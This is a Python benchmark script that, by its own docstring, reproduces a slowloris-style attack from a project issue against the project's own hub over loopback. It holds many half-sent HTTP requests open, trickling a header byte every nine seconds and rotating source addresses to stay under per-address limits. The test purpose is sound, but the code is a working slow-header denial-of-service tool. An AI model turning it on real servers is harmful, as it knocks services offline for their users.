"""Hold N slow connections open to a hub, as the attacker of issue 13 does, until killed.

Each connection sends half a request head, then one more header byte every ``TICK_EVERY_S`` (never a whole
head); when the hub closes one (its head deadline) it is opened again at once, from the same source
address. Sources are loopback addresses 127.1.x.y, ``PER_ADDRESS`` connections each, so no address reaches
the hub's per-address cap: that cap is not what is measured. ``STATUS_FILE`` gets "<held> <reopened>"
twice a second.

The holder shares the bench machine's CPU with the hub and the load generator, while a real attacker's
work is done on its own machines, so it is written to cost little: non-blocking sockets on one epoll
selector, no asyncio transports or tasks (it used ~290 us of CPU per reconnect that way; this ~100 us, most
of it the kernel's loopback TCP work for both ends).

    python bench/slow_holder.py PORT COUNT STATUS_FILE
"""

from __future__ import annotations

import errno
import math
import selectors
import socket
import sys
import time
from collections import deque
from pathlib import Path

SLOW_HEAD = b"POST /api/v1/venues/v/requests HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n"
PER_ADDRESS = 50  # below hub.connections.max_per_address (128)
TICK_EVERY_S = 9.0  # the attack seen: a byte every ~9 s, under the 10 s head deadline
ROUND_S = 0.05  # each round ticks the next 1/180 of the connections: bytes trickle in, not in bursts
STATUS_EVERY_S = 0.5
CONNECTING_MAX = 256  # connects in flight at once (below the hub's listen backlog of 1,024)
RETRY_AFTER_S = 0.5  # a connect that failed is tried again this much later


def source_address(index: int) -> str:
    slot = index // PER_ADDRESS
    return f"127.1.{slot // 250 % 250}.{slot % 250 + 1}"


class Holder:
    def __init__(self, port: int, count: int, status: Path) -> None:
        self.port = port
        self.status = status
        self.selector = selectors.EpollSelector()
        self.held: dict[socket.socket, int] = {}  # open connections and their index (their source address)
        self.rotation: deque[socket.socket] = deque()  # held connections, the next to tick first
        self.connecting: dict[socket.socket, int] = {}
        self.wanted: deque[int] = deque(range(count))  # indexes to open now
        self.retry: deque[tuple[float, int]] = deque()  # (when, index) of connects that failed
        self.reopened = 0

    def run(self) -> None:
        next_round = next_status = time.monotonic()
        while True:
            now = time.monotonic()
            self._open_wanted(now)
            for key, events in self.selector.select(timeout=max(0.0, min(next_round - now, ROUND_S))):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                if sock in self.connecting:
                    self._connected(sock)
                elif events & selectors.EVENT_READ:
                    self._readable(sock)
            now = time.monotonic()
            if now >= next_round:
                self._tick(math.ceil(len(self.held) * ROUND_S / TICK_EVERY_S))
                next_round += ROUND_S
            if now >= next_status:
                self.status.write_text(f"{len(self.held)} {self.reopened}\n")
                next_status += STATUS_EVERY_S

    def _tick(self, count: int) -> None:
        """One more header byte (never a whole head) on the next ``count`` held connections."""
        while count > 0 and self.rotation:
            sock = self.rotation.popleft()
            if sock in self.held:  # else the hub closed it since
                self.rotation.append(sock)
                self._send(sock, b"X")
                count -= 1

    def _open_wanted(self, now: float) -> None:
        while self.retry and self.retry[0][0] <= now:
            self.wanted.append(self.retry.popleft()[1])
        while self.wanted and len(self.connecting) < CONNECTING_MAX:
            index = self.wanted.popleft()
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            try:
                sock.bind((source_address(index), 0))
                code = sock.connect_ex(("127.0.0.1", self.port))
            except OSError:
                code = errno.EADDRNOTAVAIL
            if code not in (0, errno.EINPROGRESS):
                sock.close()
                self.retry.append((now + RETRY_AFTER_S, index))
                continue
            self.connecting[sock] = index
            self.selector.register(sock, selectors.EVENT_WRITE)

    def _connected(self, sock: socket.socket) -> None:
        index = self.connecting.pop(sock)
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
            self._forget(sock)
            self.retry.append((time.monotonic() + RETRY_AFTER_S, index))
            return
        self.held[sock] = index
        self.rotation.append(sock)
        self.selector.modify(sock, selectors.EVENT_READ)
        self._send(sock, SLOW_HEAD)

    def _send(self, sock: socket.socket, data: bytes) -> None:
        try:
            sock.send(data)
        except OSError:
            self._lost(sock)

    def _readable(self, sock: socket.socket) -> None:
        try:
            data = sock.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self._lost(sock)

    def _lost(self, sock: socket.socket) -> None:
        """The hub closed it: open it again at once, from the same address."""
        index = self.held.pop(sock, None)
        if index is None:
            return
        self._forget(sock)
        self.reopened += 1
        self.wanted.append(index)

    def _forget(self, sock: socket.socket) -> None:
        self.selector.unregister(sock)
        sock.close()


def main() -> int:
    port, count, status = int(sys.argv[1]), int(sys.argv[2]), Path(sys.argv[3])
    Holder(port, count, status).run()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
